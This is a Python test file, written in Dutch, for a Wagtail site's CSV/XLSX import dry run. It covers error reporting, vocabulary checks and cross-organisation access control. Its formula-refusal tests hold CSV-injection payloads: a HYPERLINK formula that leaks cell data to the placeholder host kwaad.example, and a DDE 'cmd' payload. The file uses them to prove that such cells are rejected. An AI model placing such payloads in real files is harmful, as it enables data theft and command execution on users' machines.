"""The dry run: every error in Dutch with its row and column, nothing written; formulas refused;
another organisation's ids never named."""

from wagtail.models import Page, Revision

import pytest

from aanbod.models import AanbodPage
from tests.aanbod.factories import AanbodPageFactory
from tests.importeren.conftest import (
    client_for,
    csv_bestand,
    opladen,
    rij,
    taak_van,
    toepassen,
    xlsx_bestand,
)


def fouten(taak):
    return [(f["rij"], f["kolom"], f["melding"]) for f in taak.fouten]


def test_dry_run_writes_nothing(partner_a):
    voor = (Page.objects.count(), Revision.objects.count())
    taak = taak_van(opladen(client_for(partner_a.user), csv_bestand([rij("A"), rij("B")])))
    assert [r["actie"] for r in taak.plan] == ["nieuw", "nieuw"]
    assert (Page.objects.count(), Revision.objects.count()) == voor


@pytest.mark.parametrize(
    "cel",
    ['=HYPERLINK("https://kwaad.example/?x="&A1;"Klik")', "+cmd|' /C calc'!A0", "-2+3",
     "@SUM(1+1)"],
)  # fmt: skip
def test_formulas_are_refused(partner_a, cel):
    regel = rij("Wandelen", kort=cel)
    taak = taak_van(opladen(client_for(partner_a.user), csv_bestand([regel])))
    assert taak.status == "fouten"
    [(nummer, kolom, melding)] = fouten(taak)
    assert (nummer, kolom) == (2, "in het kort")
    assert "formule" in melding


def test_formula_cell_in_xlsx_is_refused(partner_a):
    bestand = xlsx_bestand(
        [["titel", "in het kort", "thema's", "talen", "vorm", "prijs", "hoe inschrijven"],
         ['=HYPERLINK("https://kwaad.example","Klik")', "Kort.", "beweging", "nl",
          "groepsaanbod", "gratis", "zonder-afspraak"]]
    )  # fmt: skip
    taak = taak_van(opladen(client_for(partner_a.user), bestand))
    assert [(r, k) for r, k, _m in fouten(taak)] == [(2, "titel")]


def test_neutralised_cell_and_phone_numbers_are_text(partner_a):
    koppen = "titel;in het kort;thema's;talen;vorm;prijs;hoe inschrijven;telefoon;bedrag"
    regel = rij("'=Gezond eten", kort="'- elke week", prijs="betalend") + ";+32 9 123 45 67;4,50"
    taak = taak_van(opladen(client_for(partner_a.user), csv_bestand([regel], koppen=koppen)))
    assert taak.fouten == []
    assert taak.plan[0]["titel"] == "=Gezond eten"


def test_unknown_vocabulary_names_the_allowed_values(partner_a):
    regel = rij("Wandelen", themas="Beweging, Sport", prijs="gratis;goedkoop")
    taak = taak_van(opladen(client_for(partner_a.user), csv_bestand([regel])))
    per_kolom = {k: m for _r, k, m in fouten(taak)}
    assert set(per_kolom) == {"thema's", "prijs"}
    assert "Onbekende waarde: 'Sport'" in per_kolom["thema's"]
    assert "Kies uit: " in per_kolom["thema's"] and "Mondzorg" in per_kolom["thema's"]
    assert "'goedkoop'" in per_kolom["prijs"] and "Kansentarief / UiTPAS" in per_kolom["prijs"]


def test_labels_and_slugs_both_work(partner_a):
    regel = rij("Wandelen", themas="beweging; Gezonde voeding", talen="nl, Frans",
                prijs="Kansentarief / UiTPAS")  # fmt: skip
    taak = taak_van(opladen(client_for(partner_a.user), csv_bestand([regel])))
    assert taak.fouten == []


def test_every_error_has_row_column_and_reason(partner_a):
    koppen = ("titel;in het kort;thema's;talen;vorm;prijs;hoe inschrijven;bedrag;"
              "minimumleeftijd;maximumleeftijd;e-mail;einddatum;stadsbreed")  # fmt: skip
    regels = [
        rij("Goed"),
        rij("", kort="") + ";;;;;;",
        rij("Duur", prijs="Betalend") + ";;12;8;geen-mail;31/02/2027;misschien",
    ]
    taak = taak_van(opladen(client_for(partner_a.user), csv_bestand(regels, koppen=koppen)))
    gevonden = {(r, k) for r, k, _m in fouten(taak)}
    assert gevonden == {
        (3, "titel"), (3, "in het kort"),
        (4, "einddatum"), (4, "stadsbreed"),
    }  # fmt: skip
    # Rows whose cells read well get the model's own rules on the next check.
    regels = [rij("Duur", prijs="Betalend") + ";;12;8;geen-mail;;nee"]
    taak = taak_van(opladen(client_for(partner_a.user), csv_bestand(regels, koppen=koppen)))
    meldingen = {k: m for _r, k, m in fouten(taak)}
    assert set(meldingen) == {"bedrag", "maximumleeftijd", "e-mail"}
    assert meldingen["bedrag"] == "Vul een bedrag in als het aanbod betalend is."
    assert "e-mailadres" in meldingen["e-mail"]  # Django's Dutch message


def test_another_organisations_id_is_an_error_and_never_named(partner_a, partner_b):
    geheim = AanbodPageFactory(parent=partner_b.organisatie, title="GEHEIM-B", live=False)
    koppen = "id;titel;in het kort;thema's;talen;vorm;prijs;hoe inschrijven"
    regels = [";" + rij("Nieuw van A"), f"{geheim.pk};" + rij("Overgenomen")]
    client = client_for(partner_a.user)
    voor = (Page.objects.count(), Revision.objects.count())
    taak = taak_van(opladen(client, csv_bestand(regels, koppen=koppen)))
    assert fouten(taak) == [
        (3, "id", f"Er is geen aanbod met id {geheim.pk} dat je mag aanpassen.")
    ]
    assert "GEHEIM-B" not in client.get(f"/admin/importeren/{taak.pk}/").content.decode()
    # Nothing half-applied: applying a file with an error is refused.
    toepassen(client, taak)
    taak.refresh_from_db()
    assert taak.status == "fouten"
    assert (Page.objects.count(), Revision.objects.count()) == voor
    assert AanbodPage.objects.get(pk=geheim.pk).title == "GEHEIM-B"


@pytest.mark.parametrize("welke", ["organisatie", "home", "bestaat-niet"])
def test_id_of_a_non_offer_is_an_error(partner_a, site_tree, welke):
    pk = {"organisatie": partner_a.organisatie.pk, "home": site_tree.home.pk,
          "bestaat-niet": 99999}[welke]  # fmt: skip
    koppen = "id;titel;in het kort;thema's;talen;vorm;prijs;hoe inschrijven"
    taak = taak_van(opladen(client_for(partner_a.user),
                            csv_bestand([f"{pk};" + rij("X")], koppen=koppen)))  # fmt: skip
    assert [(r, k) for r, k, _m in fouten(taak)] == [(2, "id")]


def test_partner_cannot_target_another_organisation(partner_a, partner_b):
    koppen = "organisatie;titel;in het kort;thema's;talen;vorm;prijs;hoe inschrijven"
    regels = ["wgc-beta;" + rij("Bij B"), "WGC Beta;" + rij("Ook bij B"), "wgc-alfa;" + rij("A")]
    taak = taak_van(opladen(client_for(partner_a.user), csv_bestand(regels, koppen=koppen)))
    assert [(r, k) for r, k, _m in fouten(taak)] == [(2, "organisatie"), (3, "organisatie")]
    # The message lists only what A may use.
    assert "WGC Alfa" in taak.fouten[0]["melding"]
    assert "Beta" not in taak.fouten[0]["melding"].replace("“wgc-beta”", "")


def test_partner_cannot_choose_another_organisation_in_the_form(partner_a, partner_b):
    response = opladen(client_for(partner_a.user), csv_bestand([rij("X")]), partner_b.organisatie)
    assert response.status_code == 200
    assert "Selecteer een geldige keuze" in response.content.decode()


def test_coordinator_imports_for_any_organisation(coordinator, partner_a, partner_b):
    koppen = "organisatie;titel;in het kort;thema's;talen;vorm;prijs;hoe inschrijven"
    regels = ["wgc-beta;" + rij("Bij B"), "wgc-alfa;" + rij("Bij A"), ";" + rij("Gekozen")]
    taak = taak_van(opladen(client_for(coordinator), csv_bestand(regels, koppen=koppen),
                            partner_b.organisatie))  # fmt: skip
    assert taak.fouten == []
    assert [r["organisatie"] for r in taak.plan] == ["WGC Beta", "WGC Alfa", "WGC Beta"]


def test_coordinator_without_organisation_choice_gets_a_clear_error(
    coordinator, partner_a, partner_b
):
    taak = taak_van(opladen(client_for(coordinator), csv_bestand([rij("Waar?")])))
    assert [(r, k) for r, k, _m in fouten(taak)] == [(2, "organisatie")]
